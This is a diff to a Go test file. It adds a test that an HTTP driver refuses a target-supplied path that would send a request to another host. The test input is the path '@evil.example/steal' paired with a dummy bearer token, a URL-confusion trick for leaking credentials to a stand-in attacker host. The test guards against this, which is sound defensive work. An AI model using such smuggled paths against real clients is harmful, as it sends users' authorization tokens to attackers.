@@ -41,3 +41,14 @@ func TestARedirectIsNeverFollowed(t *testing.T) {
 	assert.Zero(t, elsewhere.Load(), "the other origin received nothing")
 	assert.Equal(t, int32(2), sent.Load(), "each request was sent once, never resent")
 }
+
+// TestALinkCannotMoveARequestToAnotherHost: whatever a target-supplied path
+// appended to the base URL makes of it, the request stays on the origin.
+func TestALinkCannotMoveARequestToAnotherHost(t *testing.T) {
+	d := driver.NewHTTP(driver.HTTPOptions{BaseURL: "http://127.0.0.1:1"})
+	_, err := d.Do(context.Background(), driver.Request{Method: "GET", Path: "@evil.example/steal",
+		Header: map[string]string{"Authorization": "Bearer aa_secret_key_123456"}})
+	var he *verdict.HarnessError
+	require.True(t, errors.As(err, &he), "got %v", err)
+	assert.Contains(t, err.Error(), "not the target's origin")
+}
